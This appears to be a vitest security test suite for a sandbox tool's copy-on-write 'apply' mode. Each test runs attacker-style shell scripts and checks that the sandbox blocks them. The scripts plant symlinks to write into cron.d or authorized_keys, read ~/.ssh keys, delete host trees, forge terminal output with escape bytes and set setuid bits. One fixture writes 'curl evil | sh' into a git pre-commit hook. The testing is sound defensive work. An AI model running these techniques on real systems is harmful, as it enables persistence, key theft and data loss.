/**
 * `cow: 'apply'` / `sbx run --cow=apply` as an attacker uses it (issue 18,
 * items 1 and 2). Every case is a real sandboxed run (sbx.run in a Node child,
 * or the CLI), as root and as uid 65534, with its allowed neighbour: the
 * ordinary change of the same run that must still reach the host.
 *
 * The workspace and a "victim" tree (a home with ~/.ssh, a cron.d, a tree to
 * delete) are siblings under one temporary directory: the victim is outside
 * the working directory, readable and writable by the caller, invisible to
 * the sandbox (its /tmp is private). Host state an earlier run or a cloned
 * repository would leave (a symlink, a name that is not UTF-8) is either made
 * by such an earlier run or made here and said so.
 *
 * Names: REP is U+FFFD in UTF-8 (EF BF BD), what a lossy decoder makes of FF
 * or FE; the sandbox can create both a name REP and a name FE.
 */
import { spawn, spawnSync, type SpawnSyncReturns } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { repoRoot, sbxBin } from './helpers/paths';
import { UNPRIV_UID, isRoot, runUnpriv, unprivNode, unprivPackage } from './helpers/unpriv';

type User = 'root' | 'unpriv';
const USERS: User[] = ['root', 'unpriv'];

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) {
    spawnSync('chattr', ['-R', '-i', d], { stdio: 'ignore' });
    spawnSync('chmod', ['-R', 'u+rwX', d]);
    fs.rmSync(d, { recursive: true, force: true });
  }
});

const FF = '\\377';
const FE = '\\376';
const REP = '\\357\\277\\275';
/** Shell prelude: the byte names as variables. */
const NAMES = `FF=$(printf '${FF}'); FE=$(printf '${FE}'); REP=$(printf '${REP}'); `;

interface Env {
  base: string;
  ws: string;
  victim: string;
  home: string;
  secret: string;
  user: User;
}

/** A workspace and, beside it, the victim: ~/.ssh (id_rsa 0600, authorized_keys), cron.d, del/y/important. */
function setup(user: User): Env {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'sbx-cowatk-'));
  dirs.push(base);
  fs.chmodSync(base, 0o755);
  const ws = path.join(base, 'ws');
  const victim = path.join(base, 'victim');
  const home = path.join(victim, 'home');
  fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
  fs.mkdirSync(path.join(victim, 'cron.d'));
  fs.mkdirSync(path.join(victim, 'del', 'y'), { recursive: true });
  fs.writeFileSync(path.join(victim, 'del', 'y', 'important'), 'keep me\n');
  const secret = `SECRET-${Math.random().toString(36).slice(2)}`;
  fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), `${secret}\n`, { mode: 0o600 });
  fs.writeFileSync(path.join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA good@host\n', { mode: 0o600 });
  fs.mkdirSync(ws);
  fs.writeFileSync(path.join(ws, 'gone.txt'), 'bye\n');
  if (user === 'unpriv') spawnSync('chown', ['-R', `${UNPRIV_UID}:${UNPRIV_UID}`, base]);
  return { base, ws, victim, home, secret, user };
}

/** Files made here stand for what a repository or the caller already has: owned by the caller. */
function own(e: Env): void {
  if (e.user === 'unpriv') spawnSync('chown', ['-hR', `${UNPRIV_UID}:${UNPRIV_UID}`, e.base]);
}

/**
 * The `sbx` command as installed (the native front end; --cow goes on to Node). As uid 65534 the
 * node it runs is one that user can run (unprivNode(): first on PATH).
 */
function cliEnv(e: Env): NodeJS.ProcessEnv {
  const env = { ...process.env, HOME: e.home };
  if (e.user === 'unpriv') env.PATH = `${path.dirname(unprivNode())}:${process.env.PATH ?? ''}`;
  return env;
}
const cliBin = (e: Env) => (e.user === 'root' ? sbxBin : path.join(unprivPackage(), 'dist', 'sbx'));

function cli(e: Env, args: string[]): SpawnSyncReturns<string> {
  const env = cliEnv(e);
  if (e.user === 'root') return spawnSync(sbxBin, args, { cwd: e.ws, encoding: 'utf8', env });
  return runUnpriv(cliBin(e), args, { cwd: e.ws, env }) as SpawnSyncReturns<string>;
}

/** `sbx run --cow=apply -- sh -c script`; stderr kept as bytes (latin1) to see exactly what reaches a terminal. */
function cliApply(e: Env, script: string) {
  const env = cliEnv(e);
  const args = ['run', '--cow=apply', '--', 'sh', '-c', NAMES + script];
  const r =
    e.user === 'root'
      ? spawnSync(sbxBin, args, { cwd: e.ws, env })
      : spawnSync('setpriv', [`--reuid=${UNPRIV_UID}`, `--regid=${UNPRIV_UID}`, '--clear-groups', '--', cliBin(e), ...args], { cwd: e.ws, env });
  return { status: r.status, stdout: r.stdout.toString('latin1'), stderr: r.stderr.toString('latin1') };
}

/** A plain run (no cow): the working directory is writable, as by default. */
function plainRun(e: Env, script: string): void {
  const r = cli(e, ['run', '--', 'sh', '-c', NAMES + script]);
  expect(r.stderr).toBe('');
  expect(r.status).toBe(0);
}

interface Change {
  kind: string;
  type: string;
  path: string;
  pathHex: string | null;
  applied?: boolean;
  reason?: string;
}
interface ApiResult {
  code: number;
  stdout: string;
  stderr: string;
  applied?: boolean;
  error?: string;
  changes: Change[];
}

/** sbx.run(sh -c script, { cow: 'apply' }) in a Node child as the user. */
function apiApply(e: Env, script: string, cow: 'apply' | 'keep' = 'apply'): ApiResult & { upper?: string } {
  const pkg = e.user === 'root' ? repoRoot : unprivPackage();
  const js = `
    const sbx = require(${JSON.stringify(path.join(pkg, 'dist', 'index.js'))});
    sbx.run('sh', ['-c', process.env.SCRIPT], { cwd: process.cwd(), cow: '${cow}' }).then((r) => {
      const c = r.cow || { changes: [] };
      process.stdout.write(JSON.stringify({ code: r.code, stdout: r.stdout, stderr: r.stderr, applied: c.applied, error: c.error, upper: c.upper,
        changes: c.changes.map((x) => ({ ...x, pathBuffer: undefined, pathHex: Buffer.isBuffer(x.pathBuffer) ? x.pathBuffer.toString('hex') : null })) }));
    });`;
  const env = { ...process.env, HOME: e.home, SCRIPT: NAMES + script };
  const r =
    e.user === 'root'
      ? spawnSync(process.execPath, ['-e', js], { cwd: e.ws, encoding: 'utf8', env })
      : runUnpriv(process.execPath, ['-e', js], { cwd: e.ws, env });
  expect(r.stderr).toBe('');
  expect(r.status).toBe(0);
  return JSON.parse(r.stdout as string) as ApiResult;
}

/**
 * sbx.spawn(sh -c script, { cow: 'apply' }) in a Node child as the user; `during()` runs on the host once
 * the sandbox printed READY, then the sandbox is let go (a line on its stdin) and the result read.
 */
function apiApplyDuring(e: Env, script: string, during: () => void): Promise<ApiResult> {
  const pkg = e.user === 'root' ? repoRoot : unprivPackage();
  const js = `
    const sbx = require(${JSON.stringify(path.join(pkg, 'dist', 'index.js'))});
    const child = sbx.spawn('sh', ['-c', process.env.SCRIPT], { cwd: process.cwd(), cow: 'apply', stdio: ['pipe', 'pipe', 'inherit'] });
    process.stdin.pipe(child.stdin);
    let out = '';
    child.stdout.on('data', (d) => { out += d; if (String(d).includes('READY')) process.stderr.write('READY\\n'); });
    child.cow.then((c) => {
      process.stdin.destroy();
      process.stdout.write(JSON.stringify({ code: child.exitCode, stdout: out, stderr: '', applied: c.applied, error: c.error,
        changes: c.changes.map((x) => ({ ...x, pathBuffer: undefined, pathHex: x.pathBuffer.toString('hex') })) }));
    });`;
  const env = { ...process.env, HOME: e.home, SCRIPT: NAMES + script };
  const argv = [process.execPath, '-e', js];
  const c =
    e.user === 'root'
      ? spawn(argv[0], argv.slice(1), { cwd: e.ws, env })
      : spawn('setpriv', [`--reuid=${UNPRIV_UID}`, `--regid=${UNPRIV_UID}`, '--clear-groups', '--', ...argv], { cwd: e.ws, env });
  let out = '';
  let err = '';
  c.stdout.on('data', (d) => (out += d));
  c.stderr.on('data', (d) => {
    err += d;
    if (err.includes('READY\n') && !err.includes('GO')) {
      err += 'GO';
      during();
      c.stdin.write('go\n');
    }
  });
  return new Promise((resolve, reject) =>
    c.on('close', (code) => {
      if (code !== 0 || !err.includes('GO')) reject(new Error(`driver: exit ${code}: ${err}`));
      else resolve(JSON.parse(out) as ApiResult);
    }),
  );
}

const B = (s: string) => Buffer.from(s, 'latin1');
/** A path under dir from raw bytes (latin1 maps each char to one byte). */
const at = (dir: string, ...bytes: string[]) => Buffer.concat([B(dir), ...bytes.map((b) => B('/' + b))]);
const lst = (p: Buffer | string) => fs.lstatSync(p, { throwIfNoEntry: false });
const read = (p: Buffer | string) => fs.readFileSync(p, 'latin1');

/** Every regular file under dir (symlinks not followed) that holds `needle`. */
function filesHolding(dir: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (d: Buffer) => {
    for (const n of fs.readdirSync(d, { encoding: 'buffer' })) {
      const p = Buffer.concat([d, B('/'), n]);
      const st = fs.lstatSync(p);
      if (st.isDirectory()) walk(p);
      else if (st.isFile() && fs.readFileSync(p).includes(needle)) hits.push(p.toString('latin1'));
    }
  };
  walk(B(dir));
  return hits;
}

const RAWFF = '\xff';
const RAWFE = '\xfe';
const RAWREP = '\xef\xbf\xbd';

describe.each(USERS)('cow apply attacks, as %s', (user) => {
  const skip = user === 'unpriv' && !isRoot();
  const t = test.skipIf(skip);

  // ---- a symlink on the host redirecting the apply -----------------------------------

  /*
   * The host has s/u/w -> victim/cron.d. The sandbox replaces it by a real
   * directory holding x, and makes a name REP -> s/u/w and a directory FE with
   * x in it. A decoder that turns FE into REP reads the content from the upper
   * layer's s/u/w/x and writes it through the host's s/u/w: victim/cron.d/x.
   */
  const writeThrough = (file: string) =>
    `rm s/u/w && mkdir s/u/w && echo evil > s/u/w/${file} && ln -s s/u/w "$REP" && mkdir "$FE" && echo evil > "$FE/${file}" && echo ok > ok.txt`;

  function expectNoWriteThrough(e: Env, file: string, victimFile: string, before: string | null) {
    // Denied: nothing outside the workspace changed.
    if (before === null) expect(lst(victimFile)).toBeUndefined();
    else expect(read(victimFile)).toBe(before);
    // Allowed: the run's own changes are on the host, byte for byte.
    expect(read(path.join(e.ws, 'ok.txt'))).toBe('ok\n');
    expect(lst(path.join(e.ws, 's/u/w'))!.isDirectory()).toBe(true);
    expect(read(path.join(e.ws, 's/u/w', file))).toBe('evil\n');
    expect(read(at(e.ws, RAWFE, file))).toBe('evil\n');
    expect(fs.readlinkSync(at(e.ws, RAWREP), 'latin1')).toBe('s/u/w');
  }

  t('a symlink already in the repository does not redirect a write outside (one run: cron.d)', () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 's/u'), { recursive: true });
    fs.symlinkSync(path.join(e.victim, 'cron.d'), path.join(e.ws, 's/u/w'));
    own(e);
    const r = apiApply(e, writeThrough('x'));
    expect(r.code).toBe(0);
    expectNoWriteThrough(e, 'x', path.join(e.victim, 'cron.d', 'x'), null);
  });

  t('a symlink planted by an earlier apply does not redirect a write outside (two runs: ~/.ssh/authorized_keys)', () => {
    const e = setup(user);
    // Run 1 replaces a directory by a symlink to ~/.ssh: an ordinary change, applied.
    fs.mkdirSync(path.join(e.ws, 's/u/w'), { recursive: true });
    own(e);
    const r1 = apiApply(e, `rm -r s/u/w && ln -s ${e.home}/.ssh s/u/w`);
    expect(r1.code).toBe(0);
    expect(fs.readlinkSync(path.join(e.ws, 's/u/w'))).toBe(path.join(e.home, '.ssh'));
    // Run 2 writes authorized_keys through it.
    const ak = path.join(e.home, '.ssh', 'authorized_keys');
    const before = read(ak);
    const r2 = apiApply(e, writeThrough('authorized_keys'));
    expect(r2.code).toBe(0);
    expectNoWriteThrough(e, 'authorized_keys', ak, before);
  });

  // ---- reading host files the sandbox could not read ------------------------------

  /*
   * The host has real directories s/u/v and s/u/.ssh. The sandbox replaces
   * s/u/v by a symlink to ~/.ssh and makes REP -> s/u/v/../.ssh and FE/id_rsa.
   * Resolved in the upper layer REP/id_rsa is ~/.ssh/id_rsa; on the host it is
   * the workspace's s/u/.ssh/id_rsa.
   */
  function readThrough(e: Env) {
    return `rm -r s/u/v && ln -s ${e.home}/.ssh s/u/v && ln -s s/u/v/../.ssh "$REP" && mkdir "$FE" && echo decoy > "$FE/id_rsa" && ln -s ${e.home}/.ssh/id_rsa key`;
  }
  function expectNoReadThrough(e: Env) {
    // Denied: no regular file in the workspace holds the secret.
    expect(filesHolding(e.ws, e.secret)).toEqual([]);
    // Allowed: the symlinks the sandbox made are applied as symlinks, the decoy as a file.
    expect(fs.readlinkSync(path.join(e.ws, 's/u/v'))).toBe(path.join(e.home, '.ssh'));
    expect(fs.readlinkSync(path.join(e.ws, 'key'))).toBe(path.join(e.home, '.ssh', 'id_rsa'));
    expect(fs.readlinkSync(at(e.ws, RAWREP), 'latin1')).toBe('s/u/v/../.ssh');
    expect(read(at(e.ws, RAWFE, 'id_rsa'))).toBe('decoy\n');
  }

  t('a directory replaced by a symlink to ~/.ssh never copies host files in (one run, directories already there)', () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 's/u/v'), { recursive: true });
    fs.mkdirSync(path.join(e.ws, 's/u/.ssh'));
    own(e);
    const r = apiApply(e, readThrough(e));
    expect(r.code).toBe(0);
    expectNoReadThrough(e);
  });

  t('a directory replaced by a symlink to ~/.ssh never copies host files in (two runs: the first makes the directories)', () => {
    const e = setup(user);
    const r1 = apiApply(e, 'mkdir -p s/u/v s/u/.ssh && echo a > s/u/v/a');
    expect(r1.code).toBe(0);
    expect(read(path.join(e.ws, 's/u/v/a'))).toBe('a\n');
    const r2 = apiApply(e, readThrough(e));
    expect(r2.code).toBe(0);
    expectNoReadThrough(e);
  });

  // ---- deleting through a planted symlink -------------------------------------------

  /*
   * A first, plain run leaves FF/y (a directory) and REP -> victim/del. The
   * cow run deletes FF/y; a decoder that turns FF into REP deletes victim/del/y.
   */
  t('deleting under a name whose twin is a planted symlink removes nothing outside (two runs)', () => {
    const e = setup(user);
    plainRun(e, `mkdir -p "$FF/y" && echo mine > "$FF/y/f" && ln -s ${e.victim}/del "$REP"`);
    expect(read(at(e.ws, RAWFF, 'y', 'f'))).toBe('mine\n');
    const r = apiApply(e, 'rm -r "$FF/y" && rm gone.txt');
    expect(r.code).toBe(0);
    // Denied: the victim's tree is intact.
    expect(read(path.join(e.victim, 'del', 'y', 'important'))).toBe('keep me\n');
    // Allowed: the deletions the sandbox made, on exactly those names.
    expect(lst(at(e.ws, RAWFF, 'y'))).toBeUndefined();
    expect(lst(at(e.ws, RAWFF))!.isDirectory()).toBe(true);
    expect(lst(path.join(e.ws, 'gone.txt'))).toBeUndefined();
    expect(fs.readlinkSync(at(e.ws, RAWREP))).toBe(path.join(e.victim, 'del'));
  });

  t('deleting a directory that holds a symlink to a host tree removes the link, not the tree', () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 'tree', 'sub'), { recursive: true });
    fs.writeFileSync(path.join(e.ws, 'tree', 'sub', 'f'), 'f\n');
    fs.symlinkSync(path.join(e.victim, 'del'), path.join(e.ws, 'tree', 'link'));
    fs.symlinkSync(path.join(e.victim, 'del'), path.join(e.ws, 'tree', 'sub', 'link'));
    own(e);
    const r = apiApply(e, 'rm -r tree && rm gone.txt');
    expect(r.code).toBe(0);
    expect(read(path.join(e.victim, 'del', 'y', 'important'))).toBe('keep me\n');
    expect(lst(path.join(e.ws, 'tree'))).toBeUndefined();
    expect(lst(path.join(e.ws, 'gone.txt'))).toBeUndefined();
  });

  // ---- names are bytes; the printed list cannot be forged ---------------------------

  const ODD = [
    'ff\xff\xfe.txt',
    'cr\rname',
    'nl\nname',
    'esc\x1b[2Kx',
    'tab\tname',
    'ctl\x01\x7f',
    'back\\slash',
    'utf8-\xc3\xa9',
    '\rsbx: cow: no changes\x1b[K',
  ];
  const oddScript = ODD.map((n, i) => {
    const oct = [...B(n)].map((b) => `\\${b.toString(8).padStart(3, '0')}`).join('');
    return `printf 'c${i}\\n' > "$(printf '${oct}')"`;
  }).join(' && ') + ' && mkdir -p .git/hooks && echo "curl evil | sh" > .git/hooks/pre-commit';

  t('names that are not UTF-8 or hold control bytes are applied byte for byte (API: pathBuffer)', () => {
    const e = setup(user);
    const r = apiApply(e, oddScript);
    expect(r.code).toBe(0);
    expect(r.applied).toBe(true);
    const names = fs.readdirSync(e.ws, { encoding: 'buffer' }).map((b) => b.toString('latin1'));
    ODD.forEach((n, i) => {
      expect(names).toContain(n);
      expect(read(at(e.ws, n))).toBe(`c${i}\n`);
      // The API keeps the exact bytes.
      const c = r.changes.find((x) => x.pathHex === at(e.ws, n).toString('hex'));
      expect(c, n).toBeDefined();
      expect(c!.kind).toBe('created');
    });
    expect(read(path.join(e.ws, '.git/hooks/pre-commit'))).toBe('curl evil | sh\n');
    // No name was made that the sandbox did not make (e.g. a U+FFFD twin).
    expect(names.sort()).toEqual([...ODD, '.git', 'gone.txt'].sort());
  });

  t('sbx run --cow=apply prints every byte that is not printable ASCII escaped: the list cannot be forged', () => {
    const e = setup(user);
    const r = cliApply(e, oddScript);
    expect(r.status).toBe(0);
    // Nothing but printable ASCII and line ends reaches the terminal.
    expect(r.stderr).toMatch(/^[\x20-\x7e\n]*$/);
    const lines = r.stderr.split('\n').filter(Boolean);
    expect(lines).not.toContain('sbx: cow: no changes');
    for (const l of lines) expect(l).toMatch(/^sbx: /);
    const ws = e.ws;
    for (const want of [
      `sbx: A ${ws}/ff\\xff\\xfe.txt`,
      `sbx: A ${ws}/cr\\rname`,
      `sbx: A ${ws}/nl\\nname`,
      `sbx: A ${ws}/esc\\x1b[2Kx`,
      `sbx: A ${ws}/tab\\tname`,
      `sbx: A ${ws}/ctl\\x01\\x7f`,
      `sbx: A ${ws}/back\\\\slash`,
      `sbx: A ${ws}/utf8-\\xc3\\xa9`,
      `sbx: A ${ws}/\\rsbx: cow: no changes\\x1b[K`,
      `sbx: A ${ws}/.git/hooks/pre-commit`,
    ]) {
      expect(lines).toContain(want);
    }
    // Allowed: applied exactly.
    expect(read(at(ws, ODD[0]))).toBe('c0\n');
    expect(read(path.join(ws, '.git/hooks/pre-commit'))).toBe('curl evil | sh\n');
  });

  // ---- modes, links, special files ------------------------------------------------

  t('setuid and setgid bits made in the sandbox are not carried to the host (chmod)', (ctx) => {
    const e = setup(user);
    fs.writeFileSync(path.join(e.ws, 'tool.sh'), '#!/bin/sh\n');
    fs.chmodSync(path.join(e.ws, 'tool.sh'), 0o755);
    own(e);
    const r = apiApply(
      e,
      'cp /bin/true suid; chmod 4755 suid; echo x > sgid; chmod 2755 sgid; mkdir gdir; chmod 2775 gdir; ' +
        'mkdir sticky; chmod 1777 sticky; chmod 6755 tool.sh; stat -c "%a %n" suid sgid gdir sticky tool.sh',
    );
    const inside = r.stdout;
    const mode = (n: string) => (fs.lstatSync(path.join(e.ws, n)).mode & 0o7777).toString(8);
    // Allowed, whatever the sandbox could do: the files, their content, the sticky directory.
    expect(fs.readFileSync(path.join(e.ws, 'suid')).equals(fs.readFileSync('/bin/true'))).toBe(true);
    expect(read(path.join(e.ws, 'sgid'))).toBe('x\n');
    expect(mode('sticky')).toBe('1777');
    if (inside !== '4755 suid\n2755 sgid\n2775 gdir\n1777 sticky\n6755 tool.sh\n') {
      ctx.skip(true, `the sandbox refused chmod to setuid/setgid modes (saw ${JSON.stringify(inside)}): nothing to carry; the setgid directory case below still runs`);
      return;
    }
    // Denied: no setuid/setgid bit; the rest of each mode is kept.
    expect(mode('suid')).toBe('755');
    expect(mode('sgid')).toBe('755');
    expect(mode('gdir')).toBe('775');
    expect(mode('tool.sh')).toBe('755');
  });

  t('a directory made setgid by its parent in the sandbox is applied without the bit', () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 'shared'));
    own(e);
    fs.chmodSync(path.join(e.ws, 'shared'), 0o2775);
    const r = apiApply(e, 'umask 022 && mkdir shared/new && echo x > shared/new/f && stat -c "%a" shared/new');
    expect(r.code).toBe(0);
    // The kernel set the bit inside (mkdir in a setgid directory), no chmod asked for it.
    expect(r.stdout).toBe('2755\n');
    // Denied: the host's copy has no setgid bit; allowed: the directory, its other bits, its file.
    expect((fs.lstatSync(path.join(e.ws, 'shared/new')).mode & 0o7777).toString(8)).toBe('755');
    expect(read(path.join(e.ws, 'shared/new/f'))).toBe('x\n');
    // The host's own directory is not a change and keeps its bit.
    expect((fs.lstatSync(path.join(e.ws, 'shared')).mode & 0o7777).toString(8)).toBe('2775');
  });

  t('a file hard-linked to one outside is replaced, never written through; links made inside apply as files', () => {
    const e = setup(user);
    const ak = path.join(e.home, '.ssh', 'authorized_keys');
    fs.linkSync(ak, path.join(e.ws, 'ak'));
    own(e);
    const before = read(ak);
    const r = apiApply(e, 'echo evil >> ak && echo made > made.txt && ln made.txt made2.txt');
    expect(r.code).toBe(0);
    // Denied: the other name of the host's hard link is untouched.
    expect(read(ak)).toBe(before);
    // Allowed: the workspace's name has the new content; the sandbox's links are there.
    expect(read(path.join(e.ws, 'ak'))).toBe(`${before}evil\n`);
    expect(read(path.join(e.ws, 'made.txt'))).toBe('made\n');
    expect(read(path.join(e.ws, 'made2.txt'))).toBe('made\n');
  });

  t('a FIFO is not applied and is reported as not applied', () => {
    const e = setup(user);
    const r = apiApply(e, 'mkfifo pipe && echo f > f.txt');
    expect(r.code).toBe(0);
    const p = r.changes.find((c) => c.path === path.join(e.ws, 'pipe'));
    expect(p).toMatchObject({ kind: 'created', type: 'other', applied: false });
    expect(p!.reason).toMatch(/fifo/);
    expect(lst(path.join(e.ws, 'pipe'))).toBeUndefined();
    // Allowed: the file beside it.
    expect(r.changes.find((c) => c.path === path.join(e.ws, 'f.txt'))).toMatchObject({ applied: true });
    expect(read(path.join(e.ws, 'f.txt'))).toBe('f\n');
    const c = cliApply(e, 'mkfifo pipe2 && echo g > g.txt');
    expect(c.stderr).toContain(`sbx: A ${e.ws}/pipe2 (not applied: fifo)`);
    expect(c.stderr).toContain(`sbx: A ${e.ws}/g.txt\n`);
    expect(c.stderr).toContain('sbx: cow: 1 of 2 changes applied');
  });

  t('a device node is not applied and is reported as not applied', (ctx) => {
    const e = setup(user);
    const r = apiApply(e, 'mknod dev c 1 3 2>/dev/null || echo refused; echo f > f.txt');
    expect(r.code).toBe(0);
    if (r.stdout === 'refused\n') {
      ctx.skip(true, 'the sandbox cannot make device nodes (mknod refused), so there is none to apply');
      return;
    }
    expect(r.changes.find((c) => c.path === path.join(e.ws, 'dev'))).toMatchObject({ applied: false });
    expect(lst(path.join(e.ws, 'dev'))).toBeUndefined();
    expect(read(path.join(e.ws, 'f.txt'))).toBe('f\n');
  });

  // ---- an apply that cannot finish says exactly what it did ----------------------------

  /** Every change the result calls applied is on the host; every other one is not. */
  function expectExactReport(e: Env, r: ApiResult, files: Record<string, string>) {
    for (const [name, content] of Object.entries(files)) {
      const c = r.changes.find((x) => x.path === path.join(e.ws, name));
      expect(c, name).toBeDefined();
      const st = lst(path.join(e.ws, name));
      if (c!.applied) expect(st && st.isFile() ? read(path.join(e.ws, name)) : null, name).toBe(content);
      else expect(st && st.isFile() ? read(path.join(e.ws, name)) : null, name).not.toBe(content);
    }
  }

  const ABORT_SCRIPT = 'echo a > a.txt && echo b > b.txt && mkdir -p c && echo d > c/d.txt && echo new > {DIR}/f && echo z > z.txt';
  const ABORT_FILES = { 'a.txt': 'a\n', 'b.txt': 'b\n', 'c/d.txt': 'd\n', '{DIR}/f': 'new\n', 'z.txt': 'z\n' };
  const files = (dir: string) => Object.fromEntries(Object.entries(ABORT_FILES).map(([k, v]) => [k.replace('{DIR}', dir), v]));

  t.skipIf(!isRoot())('an apply that cannot write a directory stops there and names exactly what it applied (an immutable directory)', () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 'locked'));
    fs.writeFileSync(path.join(e.ws, 'locked', 'f'), 'old\n');
    own(e);
    expect(spawnSync('chattr', ['+i', path.join(e.ws, 'locked')]).status).toBe(0);
    const r = apiApply(e, ABORT_SCRIPT.replace('{DIR}', 'locked'));
    spawnSync('chattr', ['-i', path.join(e.ws, 'locked')]);
    expect(r.code).toBe(0);
    expect(r.applied).toBe(false);
    expect(r.error).toContain(`${e.ws}/locked/f`);
    expect(r.changes.find((c) => c.path === path.join(e.ws, 'locked/f'))).toMatchObject({ kind: 'modified', applied: false });
    expect(read(path.join(e.ws, 'locked', 'f'))).toBe('old\n');
    expectExactReport(e, r, files('locked'));
    // The neighbour: the same run on a directory that is not immutable applies everything.
    const e2 = setup(user);
    fs.mkdirSync(path.join(e2.ws, 'locked'));
    fs.writeFileSync(path.join(e2.ws, 'locked', 'f'), 'old\n');
    own(e2);
    const r2 = apiApply(e2, ABORT_SCRIPT.replace('{DIR}', 'locked'));
    expect(r2.applied).toBe(true);
    expect(r2.changes.every((c) => c.applied)).toBe(true);
    for (const [n, c] of Object.entries(files('locked'))) expect(read(path.join(e2.ws, n))).toBe(c);
  });

  t.skipIf(!isRoot())('sbx run --cow=apply: an apply that stopped exits 122 whatever the command returned; a full apply keeps the command\'s code', () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 'locked'));
    fs.writeFileSync(path.join(e.ws, 'locked', 'f'), 'old\n');
    own(e);
    expect(spawnSync('chattr', ['+i', path.join(e.ws, 'locked')]).status).toBe(0);
    const r = cliApply(e, 'echo a > a.txt && echo new > locked/f; exit 0');
    spawnSync('chattr', ['-i', path.join(e.ws, 'locked')]);
    expect(r.status, r.stderr).toBe(122);
    expect(r.stderr).toMatch(/sbx: M \S*\/locked\/f \(not applied: [^\n]+\)\n/);
    expect(r.stderr).toMatch(/sbx: cow: the changes were not all applied \(see above\); the command exited with 0\n$/);
    expect(read(path.join(e.ws, 'locked', 'f'))).toBe('old\n');
    // The neighbour: everything applied, the command's own code (3) is the exit.
    const e2 = setup(user);
    const ok = cliApply(e2, 'echo a > a.txt; exit 3');
    expect(ok.status, ok.stderr).toBe(3);
    expect(read(path.join(e2.ws, 'a.txt'))).toBe('a\n');
  });

  t.skipIf(user !== 'unpriv')('sbx run --cow=apply: the command cannot stop the apply and still have its own 0 reported (a copy it made unreadable gives 122)', () => {
    // The attack: an unprivileged caller cannot read a mode-0 file of its own
    // (root could), so the sandbox stops the apply part-way and exits 0,
    // hoping the script that ran it goes on as if everything was applied.
    const e = setup(user);
    own(e);
    const r = cliApply(e, 'echo a > a.txt && echo b > b.txt && chmod 000 b.txt; exit 0');
    expect(r.status, r.stderr).toBe(122);
    expect(r.stderr).toMatch(/sbx: A \S*\/b\.txt \(not applied: [^\n]*Permission denied\)\n/);
    expect(r.stderr).toMatch(/sbx: cow: the changes were not all applied \(see above\); the command exited with 0\n$/);
    expect(fs.existsSync(path.join(e.ws, 'b.txt'))).toBe(false);
    // The neighbour: the same without the chmod applies everything and keeps the command's 0.
    const e2 = setup(user);
    own(e2);
    const ok = cliApply(e2, 'echo a > a.txt && echo b > b.txt; exit 0');
    expect(ok.status, ok.stderr).toBe(0);
    expect(read(path.join(e2.ws, 'b.txt'))).toBe('b\n');
  });

  t('the host changed a directory during the run: the apply stops there and names exactly what it applied', async () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 'd'));
    fs.writeFileSync(path.join(e.ws, 'd', 'old'), 'old\n');
    own(e);
    // The sandbox writes into d/ (a copy-up: its d is the host's d merged); the host then replaces d by a file.
    const script = 'echo new > d/new && echo a > a.txt && mkdir -p c && echo d > c/d.txt && echo READY && read x && echo z > z.txt';
    const r = await apiApplyDuring(e, script, () => {
      fs.rmSync(path.join(e.ws, 'd'), { recursive: true });
      fs.writeFileSync(path.join(e.ws, 'd'), 'host file\n');
      own(e);
    });
    expect(r.code).toBe(0);
    expect(r.applied).toBe(false);
    expect(r.error).toContain(`apply stopped at ${e.ws}/d: not what the sandbox saw`);
    // Denied: the host's file is not replaced by a half-merged directory.
    expect(read(path.join(e.ws, 'd'))).toBe('host file\n');
    expect(r.changes.find((c) => c.path === path.join(e.ws, 'd/new'))).toMatchObject({ applied: false });
    expectExactReport(e, r, { 'a.txt': 'a\n', 'c/d.txt': 'd\n', 'z.txt': 'z\n' });
    // The neighbour: the host left alone, the same run applies everything.
    const e2 = setup(user);
    fs.mkdirSync(path.join(e2.ws, 'd'));
    fs.writeFileSync(path.join(e2.ws, 'd', 'old'), 'old\n');
    own(e2);
    const r2 = await apiApplyDuring(e2, script, () => {});
    expect(r2.applied).toBe(true);
    expect(read(path.join(e2.ws, 'd', 'new'))).toBe('new\n');
    expect(read(path.join(e2.ws, 'd', 'old'))).toBe('old\n');
    expect(read(path.join(e2.ws, 'z.txt'))).toBe('z\n');
  });

  t.skipIf(!isRoot())('a deleted directory whose content cannot all be removed is gone from its name, and the result names what is left', async () => {
    const e = setup(user);
    fs.mkdirSync(path.join(e.ws, 'old', 'sub'), { recursive: true });
    fs.writeFileSync(path.join(e.ws, 'old', 'sub', 'pinned'), 'p\n');
    fs.writeFileSync(path.join(e.ws, 'old', 'free'), 'f\n');
    own(e);
    // The sandbox deletes old/; meanwhile a file in it becomes immutable on the host.
    const r = await apiApplyDuring(e, 'rm -r old && echo n > next.txt && echo READY && read x', () => {
      expect(spawnSync('chattr', ['+i', path.join(e.ws, 'old', 'sub', 'pinned')]).status).toBe(0);
    });
    expect(r.code).toBe(0);
    expect(r.applied).toBe(true);
    const c = r.changes.find((x) => x.path === path.join(e.ws, 'old'))!;
    expect(c).toMatchObject({ kind: 'deleted', type: 'dir', applied: true });
    // The name is gone; what could not be removed is under the name the result gives, and nowhere else.
    expect(lst(path.join(e.ws, 'old'))).toBeUndefined();
    const left = fs.readdirSync(e.ws).filter((n) => n.startsWith('.sbx-cow-'));
    expect(left).toHaveLength(1);
    expect((c as Change & { leftover?: unknown }).leftover).toBeDefined();
    spawnSync('chattr', ['-i', path.join(e.ws, left[0], 'sub', 'pinned')]);
    expect(fs.readdirSync(path.join(e.ws, left[0]), { recursive: true }).sort()).toEqual(['sub', 'sub/pinned']);
    const cl = cliApply(e, `rm -r ${left[0]} && echo m > more.txt`);
    expect(cl.status).toBe(0);
    // Allowed: the rest of the run.
    expect(read(path.join(e.ws, 'next.txt'))).toBe('n\n');
    expect(read(path.join(e.ws, 'more.txt'))).toBe('m\n');
    expect(lst(path.join(e.ws, left[0]))).toBeUndefined();
  });

  /*
